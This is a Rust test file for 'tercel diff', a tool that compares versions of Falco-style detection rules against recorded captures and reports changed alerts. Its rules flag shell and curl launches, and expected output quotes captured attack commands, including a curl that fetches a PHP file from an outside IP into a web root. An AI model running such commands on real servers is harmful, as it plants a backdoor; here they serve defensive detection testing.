//! `tercel diff` as a user sees it: what changed, what follows from it, and nothing else.

use std::path::Path;
use std::process::Command;

use serde_json::Value;
use tercel_test_support::{Place, Ran, captures_of, corpus, require, tercel, tool};

use super::bench::{run, traces, web};

const RULES: &str = "\
- list: shells
  items: [sh, bash]
- macro: started
  condition: evt.type in (execve, execveat) and evt.dir = <
- rule: Shell
  desc: A shell starts
  condition: started and proc.name in (shells)
  output: shell %proc.cmdline
  priority: NOTICE
- rule: Download
  desc: Something is downloaded
  condition: started and proc.name = curl
  output: download %proc.cmdline
  priority: WARNING
";

/// The rules over the web server's capture, and again after a text of them is replaced.
#[track_caller]
fn diff(from: &str, to: &str, arguments: &[&str], code: i32) -> Ran {
    let place = Place::new("diff");
    assert!(RULES.contains(from), "{from}");
    place.file("old.yaml", RULES);
    place.file("new.yaml", RULES.replacen(from, to, 1));
    let web = web();
    let verb = ["diff", "-q", "--rules", "old.yaml", "--rules-b", "new.yaml", &web];
    let ran = run(place.directory(), &[&verb[..], arguments].concat());
    assert_eq!(ran.code, code, "{from} -> {to}: {}", ran.all());
    ran
}

/// Lines of the text report, the capture called `web`.
#[track_caller]
fn check(from: &str, to: &str, expected: &[&str]) {
    let ran = diff(from, to, &["-n", "1"], i32::from(!expected.is_empty()));
    let web = web();
    let lines: Vec<String> = ran.out.lines().map(|line| line.replace(&web, "web")).collect();
    assert_eq!(lines, expected, "{from} -> {to}");
}

#[test]
fn changes_and_their_consequences() {
    check("proc.name in (shells)", "proc.name   in ( shells )", &[]);
    check("[sh, bash]", "[bash, sh]", &[]);
    check(
        "[sh, bash]",
        "[bash]",
        &[
            "new.yaml:1: list 'shells' changed",
            "  - items: sh",
            "  used by 'Shell'",
            "new.yaml:5: alerts of 'Shell': 6 vanish, 1 is the same",
            "  - web #8: 2026-01-15T09:30:01.000163109+0000: Notice shell sh -c id; uname -a",
            "    by the new rules the event misses proc.name in (shells) (it is sh)",
            "  … 5 more vanish",
            "alerts: 6 vanish, 3 are the same",
        ],
    );
    check(
        "priority: WARNING",
        "priority: ERROR",
        &[
            "new.yaml:10: rule 'Download' changed",
            "  - priority: Warning",
            "  + priority: Error",
            "new.yaml:10: alerts of 'Download': 2 change their priority, 0 are the same",
            "  - web #31: 2026-01-15T09:30:06.000344065+0000: Warning download curl -so /var/www/html/img/a.php http://203.0.113.7/a",
            "  + web #31: 2026-01-15T09:30:06.000344065+0000: Error download curl -so /var/www/html/img/a.php http://203.0.113.7/a",
            "  … 1 more changes its priority",
            "alerts: 2 change their priority, 7 are the same",
        ],
    );
}

#[test]
fn a_rule_that_comes_first_takes_the_alert() {
    let new = "proc.name in (shells, curl)";
    let ran = diff("proc.name in (shells)", new, &["--format", "json"], 1);
    let report: Value = serde_json::from_str(&ran.out).expect("JSON");
    assert_eq!((&report["summary"]["appear"], &report["summary"]["vanish"]), (&2.into(), &2.into()));
    let gone = &report["rules"][1]["vanish"]["examples"][0];
    assert_eq!((&gone["other_rule"], &gone["after"]), (&"Shell".into(), &Value::Null), "{gone}");
    let all = diff("proc.name in (shells)", new, &["--format", "json", "--rule-matching", "all"], 1);
    let report: Value = serde_json::from_str(&all.out).expect("JSON");
    assert_eq!((&report["summary"]["appear"], &report["summary"]["vanish"]), (&2.into(), &0.into()));
}

#[test]
fn reports_for_code_review() {
    let github = diff("[sh, bash]", "[bash]", &["--format", "github"], 1).out;
    let lines: Vec<&str> = github.lines().collect();
    assert!(
        lines[0].starts_with("::warning file=new.yaml,line=5,title=alerts of 'Shell' differ::6 vanish"),
        "{github}"
    );
    assert!(lines[1].starts_with("::notice file=new.yaml,line=1,title=list 'shells' changed::"), "{github}");
    let markdown = diff("[sh, bash]", "[bash]", &["--format", "markdown"], 1).out;
    assert!(markdown.contains("| Shell | 0 | 6 | 0 | 0 | 1 |\n"), "{markdown}");
    assert!(diff("[sh, bash]", "[bash, sh]", &["--format", "markdown"], 0).out.contains("Nothing differs"));
}

#[test]
fn the_report_is_the_same_for_any_number_of_threads() {
    let place = Place::new("diff-jobs");
    place.file("old.yaml", RULES);
    place.file("new.yaml", RULES.replace("sh, bash", "cat"));
    let traces = traces();
    let report = |jobs: &str| {
        let verb =
            ["diff", "-q", "--rules", "old.yaml", "--rules-b", "new.yaml", "--format", "json", "-j", jobs];
        run(place.directory(), &[&verb[..], &[&traces]].concat())
    };
    let one = report("1");
    assert_eq!(one.code, 1, "{}", one.all());
    assert_eq!(report("5"), one);
}

pub fn git(directory: &Path, arguments: &[&str]) {
    let identity = ["-c", "user.name=a", "-c", "user.email=a@b.c", "-c", "init.defaultBranch=main"];
    let done = Command::new("git").args(identity).args(arguments).current_dir(directory).output();
    let done = done.expect("git runs");
    assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn rules_at_a_revision() {
    if require("rules at a revision", tool("git")).is_none() {
        return;
    }
    let place = Place::new("diff-git");
    std::fs::create_dir(place.path("r")).expect("a directory");
    place.file("r/a.yaml", RULES);
    place.file("r/a.local.yaml", "- list: shells\n  items: [zsh]\n  override:\n    items: append\n");
    git(place.directory(), &["init", "-q"]);
    git(place.directory(), &["add", "r"]);
    git(place.directory(), &["commit", "-q", "-m", "rules"]);
    let web = web();
    let diff = |arguments: &[&str]| run(place.directory(), &[&["diff", "-q"][..], arguments].concat());
    assert_eq!(diff(&["--rules", "r", "--rules-at", "HEAD", &web]).code, 0);
    place.file("r/a.yaml", RULES.replace("sh, bash", "bash"));
    std::fs::remove_file(place.path("r/a.local.yaml")).expect("a file");
    let ran = diff(&["--rules", "r", "--rules-at", "HEAD", "-n", "0", &web]);
    assert_eq!(ran.code, 1, "{}", ran.all());
    assert!(
        ran.out.starts_with("r/a.yaml:1: list 'shells' changed\n  - items: sh\n  - items: zsh\n"),
        "{}",
        ran.out
    );
    let within = run(&place.path("r"), &["diff", "-q", "--rules", ".", "--rules-at", "main", "-n", "0"]);
    assert_eq!(within.code, 1, "{}", within.all());
    for (arguments, words) in [
        (["--rules", "r", "--rules-at", "nowhere"], "revision 'nowhere': no such revision"),
        (["--rules", "r", "--rules-at", "--all"], "revision '--all': no such revision"),
        (["--rules", "r/b.yaml", "--rules-at", "main"], "r/b.yaml: not at revision 'main'"),
        (["--rules", "/", "--rules-at", "main"], "/: revision 'main': not a git repository"),
    ] {
        let ran = diff(&[arguments[0], arguments[1], &format!("{}={}", arguments[2], arguments[3])]);
        assert!(ran.code == 2 && ran.err.contains(words), "{arguments:?}: {}", ran.all());
    }
}

#[test]
fn falcos_rules_do_not_differ_from_themselves() {
    let Some(corpus) = require("rules that do not differ", corpus()) else { return };
    let rules = corpus.join("rules/falco_rules.yaml").display().to_string();
    let captures: Vec<String> =
        captures_of(&corpus.join("captures")).iter().map(|path| path.display().to_string()).collect();
    let verb = ["diff", "-q", "--rules", &rules, "--rules-b", &rules];
    let words: Vec<&str> = verb.into_iter().chain(captures.iter().map(String::as_str)).collect();
    let ran = Ran::from(tercel(&words).output().expect("the binary runs"));
    assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{}", ran.all());
}
